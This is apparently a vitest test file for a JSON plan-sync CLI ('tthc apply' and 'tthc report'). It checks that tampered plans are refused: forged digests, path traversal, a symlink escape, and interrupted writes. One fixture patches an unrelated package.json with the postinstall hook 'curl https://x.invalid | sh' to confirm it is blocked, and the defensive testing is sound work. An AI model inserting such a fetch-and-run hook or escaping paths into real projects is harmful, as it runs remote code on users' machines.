// Issue 12's reproducers against `tthc apply` and `tthc report`, through `run` so the exit codes are
// the ones a shell sees: hand-edited plans (an unrelated package.json given a postinstall script, a
// root-replacing patch, edited values), paths that leave the plan's root, in-place edits that keep the
// document's formatting, and `kill -9` during apply (through the built entry point).
import { spawn } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { bulkDigest, documentHash, planDigest } from '@tthc/sync';
import { describe, expect, it } from 'vitest';
import { memoryIo } from '../io.js';
import { run } from '../run.js';

const COMMUNE = 'examples/commune';

async function tthc(...argv: string[]) {
  const io = memoryIo();
  const code = await run(argv, io);
  return { code, out: io.out(), err: io.err() };
}

function scratch(): string {
  const dir = mkdtempSync(join(tmpdir(), 'tthc-apply-'));
  for (const sub of ['catalogue', 'eiso', 'portal']) cpSync(join(COMMUNE, sub), join(dir, sub), { recursive: true });
  return dir;
}

const dirs = (d: string) => ['--catalogue', `${d}/catalogue`, '--eiso', `${d}/eiso`, '--portal', `${d}/portal`];

// biome-ignore lint/suspicious/noExplicitAny: plan files are edited freely, as an attacker would.
type Json = any;

async function planned(d: string): Promise<Json> {
  expect((await tthc('plan', ...dirs(d), '--out', join(d, 'plan.json'))).code).toBe(2);
  return JSON.parse(readFileSync(join(d, 'plan.json'), 'utf8'));
}

/** Writes an edited plan file, recomputing both digests when asked (they are not secret). */
function save(d: string, file: Json, redigest: boolean): string {
  if (redigest) {
    for (const p of file.procedures) if (p.plan) p.plan.digest = planDigest(p.plan);
    file.digest = bulkDigest(file);
  }
  const path = join(d, 'edited.json');
  writeFileSync(path, JSON.stringify(file));
  return path;
}

describe('tthc apply refuses tampered plans (exit 1, nothing written)', () => {
  it('a plan rewritten to give an unrelated package.json a postinstall script', async () => {
    const d = scratch();
    const pkg = JSON.stringify({ name: 'victim', scripts: { test: 'vitest' } }, null, 2);
    writeFileSync(join(d, 'package.json'), pkg);
    const file = await planned(d);
    const p = file.procedures.find((x: Json) => x.plan.patches.portal.length > 0);
    p.sources.portal = 'package.json';
    p.plan.createdFrom.portal = documentHash(JSON.parse(pkg));
    delete p.plan.createdFrom.bytes;
    p.plan.patches.portal = [{ op: 'add', path: '/scripts/postinstall', value: 'curl https://x.invalid | sh' }];
    for (const redigest of [false, true]) {
      const r = await tthc('apply', save(d, structuredClone(file), redigest));
      expect(r.code).toBe(1);
      expect(r.err).toMatch(redigest ? /not a|cannot|TruongHop|expected/i : /digest/);
      expect(readFileSync(join(d, 'package.json'), 'utf8')).toBe(pkg);
    }
    // The root-replacing form of the same attack.
    p.plan.patches.portal = [{ op: 'replace', path: '', value: { scripts: { postinstall: 'x' } } }];
    expect((await tthc('apply', save(d, structuredClone(file), true))).code).toBe(1);
    expect(readFileSync(join(d, 'package.json'), 'utf8')).toBe(pkg);
  });

  it('an edited patch value or an edited digest', async () => {
    const d = scratch();
    const file = await planned(d);
    const p = file.procedures.find((x: Json) => x.plan.patches.portal.some((o: Json) => typeof o.value === 'string'));
    const op = p.plan.patches.portal.find((o: Json) => typeof o.value === 'string');
    const before = readFileSync(join(d, p.sources.portal), 'utf8');
    op.value = 'Giá trị khác';
    const r = await tthc('apply', save(d, structuredClone(file), false));
    expect([r.code, r.err]).toEqual([1, expect.stringMatching(/digest/)]);
    const digestOnly = await planned(d);
    digestOnly.digest = `sha256:${'0'.repeat(64)}`;
    expect((await tthc('apply', save(d, digestOnly, false))).code).toBe(1);
    expect(readFileSync(join(d, p.sources.portal), 'utf8')).toBe(before);
  });

  it('sources that leave the root: "..", absolute, a symbolic link out', async () => {
    const d = scratch();
    const outside = mkdtempSync(join(tmpdir(), 'tthc-outside-'));
    const file = await planned(d);
    const p = file.procedures.find((x: Json) => x.plan.patches.portal.length > 0);
    const real = p.sources.portal;
    cpSync(join(d, real), join(outside, 'x.json'));
    for (const [source, message] of [
      [`../${join(outside, 'x.json')}`, /\.\./],
      [join(outside, 'x.json'), /absolute/],
      ['C:\\Windows\\x.json', /absolute/],
    ] as const) {
      p.sources.portal = source;
      const r = await tthc('apply', save(d, structuredClone(file), true));
      expect([r.code, r.err]).toEqual([1, expect.stringMatching(message)]);
    }
    mkdirSync(join(d, 'links'));
    symlinkSync(join(outside, 'x.json'), join(d, 'links/x.json'));
    p.sources.portal = 'links/x.json';
    const r = await tthc('apply', save(d, structuredClone(file), true));
    expect([r.code, r.err]).toEqual([1, expect.stringMatching(/leads out of the plan's root/)]);
    expect(readFileSync(join(outside, 'x.json'), 'utf8')).toBe(readFileSync(join(COMMUNE, real), 'utf8'));
  });

  it('plan refuses a source outside its root', async () => {
    const d = scratch();
    const r = await tthc('plan', ...dirs(d), '--out', join(d, 'sub/plan.json'));
    expect([r.code, r.err]).toEqual([1, expect.stringMatching(/outside the plan's root/)]);
  });
});

describe('tthc report on a hand-edited plan', () => {
  it('exits 1 naming the member, not 70', async () => {
    const d = scratch();
    const file = await planned(d);
    expect((await tthc('report', join(d, 'plan.json'), '--json')).code).toBe(2);
    const broken = structuredClone(file);
    broken.procedures.find((p: Json) => p.drift.length > 0).drift[0].code = 'no.such.code';
    const r = await tthc('report', save(d, broken, true), '--json');
    expect([r.code, r.err]).toEqual([1, expect.stringMatching(/\/procedures\/\d+\/drift\/0\/code: not a change code/)]);
    const edited = structuredClone(file);
    edited.procedures[0].name = 'Thủ tục khác';
    const e = await tthc('report', save(d, edited, false));
    expect([e.code, e.err]).toEqual([1, expect.stringMatching(/digest/)]);
    for (const value of [null, [], { bulkVersion: 1, kind: 'plan', procedures: [{}], unpaired: [], problems: [] }]) {
      writeFileSync(join(d, 'x.json'), JSON.stringify(value));
      expect((await tthc('report', join(d, 'x.json'))).code).toBe(1);
    }
  });
});

describe('tthc apply writes in place', () => {
  it('keeps the document’s own formatting: CRLF, 4-space indent, \\u escapes, number spellings', async () => {
    const d = scratch();
    const first = await planned(d);
    const p = first.procedures.find((x: Json) => x.plan.patches.portal.length === 1);
    const path = join(d, p.sources.portal);
    const raw = JSON.parse(readFileSync(path, 'utf8'));
    const awkward = JSON.stringify({ ...raw, HeSo: '@1.0@', SoLon: '@12345678901234567890@' }, null, 4)
      .replace(/[\u0080-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)
      .replace(/"@([^@]+)@"/g, '$1')
      .replace(/\n/g, '\r\n');
    writeFileSync(path, awkward);
    await planned(d);
    expect((await tthc('apply', join(d, 'plan.json'))).code).toBe(2);
    const out = readFileSync(path, 'utf8');
    const [a, b] = [awkward.split('\r\n'), out.split('\r\n')];
    expect(b.length).toBe(a.length);
    expect(out.replace(/\r\n/g, '')).not.toContain('\n');
    // One patched line, every other byte the same.
    expect(a.filter((line, i) => line !== b[i])).toHaveLength(1);
    expect(out).toContain('"SoLon": 12345678901234567890');
    expect(out).toContain('"HeSo": 1.0');
    // And the re-plan agrees that nothing is left: exit 0.
    expect((await tthc('plan', ...dirs(d), '--out', join(d, 'plan.json'))).code).toBe(0);
  });
});

const bin = fileURLToPath(new URL('../../dist/bin.js', import.meta.url));

describe.skipIf(!existsSync(bin))('kill -9 during apply (dist/bin.js)', () => {
  it('leaves each document either as it was or as planned, never cut', async () => {
    const d = scratch();
    const file = await planned(d);
    const p = file.procedures.find((x: Json) => x.plan.patches.portal.length > 0);
    const path = join(d, p.sources.portal);
    // A large unknown field makes the write long enough for the kill to land in it.
    const raw = JSON.parse(readFileSync(path, 'utf8'));
    writeFileSync(path, JSON.stringify({ ...raw, GhiChu: 'x'.repeat(8_000_000) }, null, 2));
    await planned(d);
    const old = readFileSync(path);
    expect((await tthc('apply', join(d, 'plan.json'), '--out-dir', join(d, 'expected'))).code).toBe(2);
    const next = readFileSync(join(d, 'expected/portal', p.sources.portal.split('/').at(-1)));
    const seen = new Set<string>();
    for (const delay of [200, 400, 600, 900, 1300, 2000]) {
      writeFileSync(path, old);
      const child = spawn(process.execPath, [bin, 'apply', join(d, 'plan.json')], { stdio: 'ignore' });
      // Listen before waiting: a child that finishes before the kill must not leave the test hanging.
      const exited = new Promise((r) => child.on('exit', r));
      await new Promise((r) => setTimeout(r, delay));
      child.kill('SIGKILL');
      await exited;
      const now = readFileSync(path);
      const state = now.equals(old) ? 'old' : now.equals(next) ? 'new' : `cut (${now.length} bytes)`;
      seen.add(state);
      expect(state === 'old' || state === 'new').toBe(true);
    }
    expect(seen.size).toBeGreaterThan(0);
  }, 120_000);
});
